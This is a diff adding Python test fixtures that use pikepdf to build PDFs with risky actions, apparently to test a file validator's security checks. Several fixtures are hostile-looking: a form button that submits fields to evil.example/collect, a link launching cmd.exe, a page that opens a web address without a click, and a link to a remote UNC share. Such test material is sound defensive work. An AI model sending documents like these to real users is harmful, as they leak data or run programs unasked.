@@ -256,3 +256,191 @@ def jpeg_declaring(width: int, height: int) -> bytes:
     # SOF0: FF C0, length (2), precision (1), height (2), width (2)
     struct.pack_into(">HH", data, index + 5, height, width)
     return bytes(data)
+
+
+# --- Actions and media (SEC-4) -----------------------------------------------------------------
+
+
+def _link(pdf: pikepdf.Pdf, action: Dictionary, *, subtype=Name.Link) -> None:
+    """Put a clickable annotation whose action is ``action`` on the first page."""
+    annotation = Dictionary(Type=Name.Annot, Subtype=subtype, Rect=Array([72, 72, 200, 90]))
+    annotation.A = action
+    pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))
+
+
+def _with(change) -> bytes:
+    pdf = pikepdf.open(io.BytesIO(good_pdf()))
+    change(pdf)
+    return _save(pdf)
+
+
+def uri_open_action_pdf() -> bytes:
+    """Opening the file opens a web page (no click)."""
+    return _with(
+        lambda pdf: setattr(
+            pdf.Root, "OpenAction", Dictionary(S=Name.URI, URI=String("https://evil.example/"))
+        )
+    )
+
+
+def named_open_action_pdf() -> bytes:
+    """Opening the file runs a viewer menu command (here: print)."""
+    return _with(
+        lambda pdf: setattr(pdf.Root, "OpenAction", Dictionary(S=Name.Named, N=Name.Print))
+    )
+
+
+def goto_then_uri_open_action_pdf() -> bytes:
+    """A /GoTo on opening — harmless — that chains (/Next) to a web page."""
+
+    def change(pdf):
+        pdf.Root.OpenAction = Dictionary(
+            S=Name.GoTo,
+            D=Array([pdf.pages[0].obj, Name.Fit]),
+            Next=Dictionary(S=Name.URI, URI=String("https://evil.example/")),
+        )
+
+    return _with(change)
+
+
+def uri_additional_action_pdf() -> bytes:
+    """/AA without a script: the page opens a web page when it is shown."""
+    return _with(
+        lambda pdf: setattr(
+            pdf.pages[0],
+            "AA",
+            Dictionary(O=Dictionary(S=Name.URI, URI=String("https://evil.example/"))),
+        )
+    )
+
+
+def launch_link_pdf() -> bytes:
+    """A link that starts a program when clicked."""
+    return _with(lambda pdf: _link(pdf, Dictionary(S=Name.Launch, F=String("cmd.exe"))))
+
+
+def submit_form_pdf() -> bytes:
+    """A form's push button (a widget in /AcroForm) that sends the fields to a web address."""
+
+    def change(pdf):
+        _link(
+            pdf,
+            Dictionary(
+                S=Name.SubmitForm,
+                F=Dictionary(FS=Name.URL, F=String("https://evil.example/collect")),
+            ),
+            subtype=Name.Widget,
+        )
+        button = pdf.pages[0].Annots[0]
+        button.FT, button.T, button.Ff = Name.Btn, String("send"), 65536  # push button
+        pdf.Root.AcroForm = Dictionary(Fields=Array([button]))
+
+    return _with(change)
+
+
+def goto_remote_pdf() -> bytes:
+    """A link that opens another PDF file (/GoToR)."""
+    return _with(
+        lambda pdf: _link(
+            pdf,
+            Dictionary(
+                S=Name.GoToR, F=String("\\\\server\\share\\other.pdf"), D=Array([0, Name.Fit])
+            ),
+        )
+    )
+
+
+def import_data_pdf() -> bytes:
+    """A link in an outline item that fills the form from another file (/ImportData)."""
+
+    def change(pdf):
+        item = pdf.make_indirect(
+            Dictionary(Title=String("Load"), A=Dictionary(S=Name.ImportData, F=String("data.fdf")))
+        )
+        outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
+        item.Parent = outlines
+        pdf.Root.Outlines = outlines
+
+    return _with(change)
+
+
+def goto_embedded_pdf() -> bytes:
+    """A link that opens a file embedded in the document (/GoToE)."""
+    return _with(
+        lambda pdf: _link(
+            pdf,
+            Dictionary(
+                S=Name.GoToE, D=Array([0, Name.Fit]), T=Dictionary(R=Name.C, N=String("a.pdf"))
+            ),
+        )
+    )
+
+
+def rich_media_pdf() -> bytes:
+    """A /RichMedia annotation (Flash or video) with its content."""
+
+    def change(pdf):
+        annotation = Dictionary(
+            Type=Name.Annot,
+            Subtype=Name.RichMedia,
+            Rect=Array([72, 72, 300, 300]),
+            RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([]))),
+        )
+        pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))
+
+    return _with(change)
+
+
+def sound_pdf() -> bytes:
+    """A /Sound annotation that plays a clip."""
+
+    def change(pdf):
+        sound = pdf.make_stream(b"\x00" * 64, Type=Name.Sound, R=8000)
+        annotation = Dictionary(
+            Type=Name.Annot, Subtype=Name.Sound, Rect=Array([72, 72, 90, 90]), Sound=sound
+        )
+        pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))
+
+    return _with(change)
+
+
+def movie_action_pdf() -> bytes:
+    """A link whose action plays a movie (/Movie action)."""
+    return _with(lambda pdf: _link(pdf, Dictionary(S=Name.Movie, T=String("clip"))))
+
+
+def xfa_pdf() -> bytes:
+    """An XFA form: /AcroForm with an /XFA packet (no /JS key anywhere)."""
+
+    def change(pdf):
+        packet = pdf.make_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>')
+        pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=packet)
+
+    return _with(change)
+
+
+def internal_link_pdf() -> bytes:
+    """An ordinary document: a link to its second page, an outline entry to its first, and an
+    /OpenAction that opens it at page 1 (a destination array) — nothing runs by itself."""
+
+    def change(pdf):
+        _link(pdf, Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit])))
+        pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
+
+    return _with(change)
+
+
+def goto_open_action_pdf() -> bytes:
+    """/OpenAction as a /GoTo action to a page (still a plain destination)."""
+    return _with(
+        lambda pdf: setattr(
+            pdf.Root, "OpenAction", Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]))
+        )
+    )
+
+
+def web_link_pdf() -> bytes:
+    """A link to a web address that the reader has to click (/URI on a link annotation)."""
+    return _with(
+        lambda pdf: _link(pdf, Dictionary(S=Name.URI, URI=String("https://www.moj.go.jp/isa/")))
+    )
